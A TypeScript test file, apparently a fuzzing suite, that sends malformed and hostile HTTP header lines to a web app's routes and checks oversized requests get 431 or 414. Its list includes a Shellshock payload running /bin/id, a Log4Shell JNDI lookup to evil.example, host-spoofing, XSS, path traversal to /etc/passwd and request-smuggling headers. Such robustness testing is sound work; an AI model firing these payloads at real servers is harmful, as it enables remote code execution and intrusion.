import { FORM, HOST, type Kind, MAIL, MARKER, OURS, request } from "./kinds.ts";

const long = (length: number) => "x".repeat(length);

/** Header lines that nobody sends in good faith. */
// biome-ignore format: a list that is read across
const LINES: string[] = [
	...["", " folded: yes", "NoColon", ": nameless", "Sp ace: x", "Tab\t: x", "X: \0", "X: a\x01b", "X: \x7f"],
	...["X\0: x", "X\x80: x", "Ünï: x", "X: ünï", "X: 😀", "X:\r\n folded", "X: a\rb", "X: a\nb", "X : x", "__proto__: x"],
	...["constructor: x", "toString: x", "Content-Length: 0\r\nContent-Length: 0", "Connection: upgrade, close"],
	...["Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13"],
	...["Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__"],
	...["Upgrade: TLS/1.0\r\nConnection: Upgrade", "Connection: keep-alive\r\nConnection: close", "Keep-Alive: timeout=-1"],
	...["Connection: Host", "Connection: Cookie, Sec-Fetch-Site", "Proxy-Connection: keep-alive", "Trailer: Host"],
	...["Expect: 100-continue", "Expect: 200-ok", "Expect: 100-Continue, 100-continue", "Expect:", `Expect: ${MARKER}`],
	...["TE: trailers, deflate;q=0.5", "Max-Forwards: -1", "Via: 1.1 x", "Forwarded: for=1.2.3.4;host=evil.example"],
	...["X-Forwarded-Host: evil.example", "X-Forwarded-Proto: javascript", "X-Forwarded-For: '\"><script>", "X-Original-URL: /en/admin"],
	...["X-Rewrite-URL: /en/admin", "X-HTTP-Method-Override: DELETE", "X-Method-Override: PUT", "X-Remix-Redirect: /x"],
	...["X-Remix-Reload-Document: yes", "Front-End-Https: on", "X-Forwarded-Prefix: //evil.example", "X-Real-IP: x"],
	...["Accept: */*;q=9", "Accept: text/html;q=x", `Accept: ${"*/*,".repeat(2_000)}`, "Accept-Encoding: gzip;q=x, br;q=-1"],
	...["Accept-Encoding: *;q=0", "Accept-Encoding: identity;q=0", "Accept-Encoding: zstd, exi, pack200-gzip", "Accept-Encoding: ,,,"],
	...[`Accept-Encoding: ${"gzip,".repeat(2_000)}`, "Accept-Language: *", "Accept-Language: -", "Accept-Language: ar;q=x"],
	...["Accept-Language: ../../etc/passwd", "Accept-Language: __proto__", `Accept-Language: ${"ar,".repeat(4_000)}`, "Accept-Language: \xff"],
	...["Range: bytes=0-", "Range: bytes=-1", "Range: bytes=9-1", "Range: bytes=a-b", "Range: bytes=0-0,1-1,2-2", "Range: lines=1-2"],
	...["Range: bytes=99999999999999999999-", `Range: bytes=${"0-1,".repeat(2_000)}`, "If-Range: x\r\nRange: bytes=0-1", "Range: bytes=-0"],
	...["If-None-Match: *", 'If-None-Match: "', `If-None-Match: ${'"x",'.repeat(2_000)}`, "If-Match: *", "If-Modified-Since: never"],
	...["If-Modified-Since: Thu, 01 Jan 1970 00:00:00 GMT", "If-Unmodified-Since: x", "Cache-Control: \xff", "Pragma: x", "Date: x"],
	...["Cookie: ", "Cookie: =", "Cookie: ;;;;", "Cookie: session", "Cookie: session=", "Cookie: session=;session=;session="],
	...[`Cookie: session=${MARKER}`, `Cookie: session=${"A".repeat(43)}`, `Cookie: session=${"A".repeat(43)}; session=${"B".repeat(43)}`],
	...[`Cookie: __Host-session=${"A".repeat(43)}`, `Cookie: __host-session=x; __HOST-session=y`, `Cookie: session=${long(15_000)}`],
	...[`Cookie: a=${long(16_400)}`, `Cookie: ${"a=b; ".repeat(3_000)}`, "Cookie: session=a\r\nCookie: session=b", 'Cookie: $Version=1; session="x"'],
	...["Cookie: session=%00", "Cookie: session=\xff", "Cookie: language=../..", "Cookie: language=__proto__", "Cookie: language=<script>"],
	...[`Cookie: half=${MARKER}`, `Cookie: __Host-half=${"A".repeat(43)}`, "Cookie: language=ar; language=pl", "Cookie: session='--"],
	...["Referer: x", "Referer: http://[", "Referer: javascript:alert(1)", "Referer: \xff", `Referer: http://${HOST}/ar`, `Referer: http://${HOST}`],
	...[`Referer: http://${HOST}/%zz/x`, `Referer: http://${MAIL}/`, "Referer: //", "User-Agent: ", `User-Agent: ${MARKER}`, "User-Agent: \xff"],
	...[`User-Agent: ${long(12_000)}`, "User-Agent: () { :;}; /bin/id", "User-Agent: \x24{jndi:ldap://evil.example/x}", "Authorization: Basic ////"],
	...["Authorization: Bearer x", "Authorization: Negotiate x", "Proxy-Authorization: Basic x", "Origin: null", "Origin: http://["],
	...["Sec-Fetch-Site: same-origin, cross-site", "Sec-Fetch-Site:", "Sec-Fetch-Mode: nonsense", "Sec-Fetch-Dest: \xff", "Purpose: prefetch"],
	...["Access-Control-Request-Method: PUT", "Access-Control-Request-Headers: *", "Service-Worker: script", "Content-Type: \xff", "Content-Encoding: x"],
	...[`X: ${long(8_000)}`, `X: ${long(16_300)}`, `X: ${long(17_000)}`, `X: ${long(200_000)}`, `${long(17_000)}: x`],
];

const AT = ["/en", "/en/today", "/"];

export function headerLines(): Kind[] {
	return LINES.flatMap((line, at) =>
		AT.slice(0, at % 3 === 0 ? 3 : 2).map((target) => ({
			name: `header ${line.slice(0, 60)} ${target}`,
			bytes: request({ target, headers: [line] }),
			// An empty line ends the head, and what follows is no request.
			most: line === "" ? 2 : 1,
		})),
	);
}

/** Those that are about files, at files. */
export function ranges(): Kind[] {
	return LINES.filter((line) => /^(Range|If|Accept-Enc)/.test(line)).flatMap((line) =>
		["/icon.svg", "/assets/", "/sw.js"].map((target) => ({
			name: `file ${line.slice(0, 60)} ${target}`,
			bytes: request({ target, headers: [line] }),
		})),
	);
}

/** As many as this of them. */
export function counts(): Kind[] {
	const many = [100, 101, 500, 1_990, 2_001, 3_900, 20_000].flatMap((count) => [
		{
			name: `${count} headers`,
			bytes: request({ headers: Array.from({ length: count }, () => "a:") }),
			...(count > 100 && { status: /^431$/ }),
		},
		{
			name: `the one that counts behind ${count} others`,
			bytes: request({
				method: "POST",
				target: "/en/sign-in",
				headers: [...Array.from({ length: count }, () => "a:"), FORM, OURS, "Content-Length: 0"],
			}),
			...(count > 100 && { status: /^431$/ }),
		},
	]);
	const long = [4_000, 8_192, 8_193, 15_000, 40_000].map((length) => ({
		name: `an address of ${length} signs`,
		bytes: request({ target: `/en?${"x".repeat(length - 4)}` }),
		...(length > 8_192 && { status: /^(414|431)$/ }),
	}));
	const parameters = [1_000, 2_000, 10_000].map((count) => ({
		name: `${count} parameters`,
		bytes: request({ target: `/en/classes?${"a=&".repeat(count)}` }),
	}));
	return [...many, ...long, ...parameters];
}
